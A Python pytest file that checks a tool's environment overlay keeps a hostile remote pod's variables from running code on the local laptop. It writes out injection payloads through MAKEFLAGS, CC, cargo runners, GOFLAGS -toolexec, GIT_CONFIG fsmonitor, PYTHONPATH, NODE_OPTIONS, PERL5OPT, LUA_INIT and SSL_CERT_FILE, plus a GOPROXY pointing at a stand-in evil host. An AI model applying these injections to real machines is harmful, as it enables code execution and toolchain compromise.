"""The pod's environment does not make a real tool on the laptop run code (issue 19, item 3).

Each test runs a tool installed here under the command's environment exactly as bridge builds
it (`env.overlay` of this process's environment and a hostile pod's), and asserts the injected
code did not run; the same run with the variable allowed by name (`--env-allow`) shows that
the injection is real, so each test fails without the hold-back."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest

from bridge.local import env


def _ran(cmd: Sequence[str], pod: Mapping[str, str], marker: Path, cwd: Path,
         allow: Sequence[str] = ()) -> bool:
    marker.unlink(missing_ok=True)
    child = env.overlay(os.environ, pod, allow)
    done = subprocess.run(list(cmd), env=child, cwd=cwd, capture_output=True, timeout=240)
    _last_output[:] = [done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace")]
    return marker.exists()


_last_output: list[str] = []  # what the last `_ran` printed, for a failing check's message


def _needs(tool: str) -> str:
    path = shutil.which(tool)
    if path is None:
        pytest.skip(f"{tool} is not installed here")
    return path


def _check(cmd: Sequence[str], pod: Mapping[str, str], marker: Path, cwd: Path) -> None:
    assert not _ran(cmd, pod, marker, cwd), f"{cmd[0]} ran the pod's code"
    # The control: allowed by name, the same variables do run it (the test can fail).
    assert _ran(cmd, pod, marker, cwd, allow=list(pod)), \
        f"the injection itself did not work: {_last_output}"


def _script(tmp_path: Path, marker: Path) -> Path:
    script = tmp_path / "evil.sh"
    script.write_text(f'#!/bin/sh\ntouch {marker}\nexec "$@"\n')
    script.chmod(0o755)
    return script


def test_make_runs_no_shell_from_makeflags(tmp_path: Path) -> None:
    make = _needs("make")
    marker = tmp_path / "pwned"
    (tmp_path / "Makefile").write_text("all:\n\t@true\n")
    # A word with "=" in MAKEFLAGS is a command-line variable: SHELL runs every recipe line.
    # (No spaces in the value: makes split MAKEFLAGS on them differently across versions.)
    pod = {"MAKEFLAGS": f"SHELL={_script(tmp_path, marker)}"}
    bare = {"PATH": os.environ["PATH"], **pod}
    subprocess.run([make], env=bare, cwd=tmp_path, capture_output=True, timeout=60)
    if not marker.exists():
        version = subprocess.run([make, "--version"], capture_output=True, text=True).stdout
        pytest.skip(f"this make takes no SHELL from MAKEFLAGS: {version.splitlines()[:1]}")
    _check([make], pod, marker, tmp_path)


def test_make_and_gcc_use_the_laptops_compiler_not_the_pods_cc(tmp_path: Path) -> None:
    _needs("make")
    _needs("gcc")
    marker = tmp_path / "pwned"
    (tmp_path / "hello.c").write_text("int main(void) { return 0; }\n")
    (tmp_path / "Makefile").write_text("hello: hello.c\n\t$(CC) -o $@ $<\n")
    pod = {"CC": f"{_script(tmp_path, marker)} gcc"}
    assert not _ran(["make", "-B", "hello"], pod, marker, tmp_path)
    assert (tmp_path / "hello").exists()  # built, with the laptop's cc
    assert _ran(["make", "-B", "hello"], pod, marker, tmp_path, allow=["CC"])


def test_cargo_runs_no_target_runner_or_rustc_wrapper(tmp_path: Path) -> None:
    cargo = _needs("cargo")
    marker = tmp_path / "pwned"
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "main.rs").write_text("fn main() {}\n")
    (tmp_path / "Cargo.toml").write_text(
        '[package]\nname = "hello"\nversion = "0.1.0"\nedition = "2021"\n')
    triple = next(line.split()[1] for line in subprocess.run(
        ["rustc", "-vV"], capture_output=True, text=True, check=True).stdout.splitlines()
        if line.startswith("host:"))
    runner = f"CARGO_TARGET_{triple.upper().replace('-', '_')}_RUNNER"
    script = str(_script(tmp_path, marker))
    _check([cargo, "run", "--offline", "-q"], {runner: script}, marker, tmp_path)
    _check([cargo, "build", "--offline", "-q"], {"RUSTC_WRAPPER": script}, marker, tmp_path)


def test_go_runs_no_toolexec_and_keeps_its_toolchain_and_proxy(tmp_path: Path) -> None:
    go = _needs("go")
    marker = tmp_path / "pwned"
    (tmp_path / "go.mod").write_text("module example.com/hello\n\ngo 1.20\n")
    (tmp_path / "main.go").write_text("package main\n\nfunc main() {}\n")
    _check([go, "build", "-a", "-o", "hello", "."],
           {"GOFLAGS": f"-toolexec={_script(tmp_path, marker)}"}, marker, tmp_path)
    # GOTOOLCHAIN + GOPROXY: go fetches and runs a toolchain from where the pod says.
    pod = {"GOTOOLCHAIN": "go1.99.0", "GOPROXY": "http://evil.invalid"}

    def build(allow: Sequence[str] = ()) -> subprocess.CompletedProcess[str]:
        return subprocess.run([go, "build", "-o", "hello", "."], cwd=tmp_path, text=True,
                              env=env.overlay(os.environ, pod, allow), capture_output=True,
                              timeout=240)

    held = build()
    assert held.returncode == 0 and "evil.invalid" not in held.stderr, held.stderr
    allowed = build(allow=list(pod))
    assert "downloading go1.99.0" in allowed.stderr and "evil.invalid" in allowed.stderr
    names = ["GOPROXY", "GOSUMDB", "GONOSUMDB", "GOINSECURE", "GOPRIVATE"]
    sums = {"GOPROXY": "http://evil.invalid", "GOSUMDB": "off", "GONOSUMDB": "*",
            "GOINSECURE": "*", "GOPRIVATE": "*"}

    def go_env(e: Mapping[str, str]) -> list[str]:
        return subprocess.run([go, "env", *names], env=dict(e), capture_output=True, text=True,
                              check=True, cwd=tmp_path).stdout.splitlines()

    assert go_env(env.overlay(os.environ, sums)) == go_env(os.environ)
    assert go_env(env.overlay(os.environ, sums, allow=names)) == list(sums.values())


def test_git_runs_no_command_from_config_in_the_environment(tmp_path: Path) -> None:
    git = _needs("git")
    marker = tmp_path / "pwned"
    subprocess.run([git, "init", "-q", str(tmp_path)], check=True)
    pod = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor",
           "GIT_CONFIG_VALUE_0": f"touch {marker}; false"}
    _check([git, "status", "--porcelain"], pod, marker, tmp_path)


def test_python_node_perl_load_no_module_of_the_pods(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "sitecustomize.py").write_text(
        f"open({str(marker)!r}, 'w').close()\n")
    _check([_needs("python3"), "-c", "pass"], {"PYTHONPATH": str(tmp_path / "lib")}, marker,
           tmp_path)
    (tmp_path / "lib" / "evil.js").write_text(
        f"require('fs').writeFileSync({str(marker)!r}, '')\n")
    _check([_needs("node"), "-e", "0"],
           {"NODE_OPTIONS": f"--require {tmp_path / 'lib' / 'evil.js'}"}, marker, tmp_path)
    (tmp_path / "lib" / "Evil.pm").write_text(f"package Evil; open(F, '>', '{marker}'); 1;\n")
    _check([_needs("perl"), "-e", "1"], {"PERL5LIB": str(tmp_path / "lib"),
                                         "PERL5OPT": "-MEvil"}, marker, tmp_path)


def test_lua_runs_no_lua_init(tmp_path: Path) -> None:
    lua = next((shutil.which(n) for n in ("lua", "lua5.4", "lua5.3", "luajit")
                if shutil.which(n)), None)
    if lua is None:
        pytest.skip("no lua interpreter installed here")
    marker = tmp_path / "pwned"
    _check([lua, "-e", ""], {"LUA_INIT": f"io.open('{marker}', 'w'):close()"}, marker,
           tmp_path)


def test_tls_clients_keep_the_laptops_trust_anchors(tmp_path: Path) -> None:
    python = _needs("python3")
    bundle = tmp_path / "evil-ca.pem"
    bundle.write_text("")
    probe = "import ssl; p = ssl.get_default_verify_paths(); print(p.cafile, p.capath)"

    def paths(pod: Mapping[str, str], allow: Sequence[str] = ()) -> str:
        return subprocess.run([python, "-c", probe], env=env.overlay(os.environ, pod, allow),
                              capture_output=True, text=True, check=True).stdout

    pod = {"SSL_CERT_FILE": str(bundle), "SSL_CERT_DIR": str(tmp_path)}
    assert str(tmp_path) not in paths(pod)
    assert str(bundle) in paths(pod, allow=list(pod))
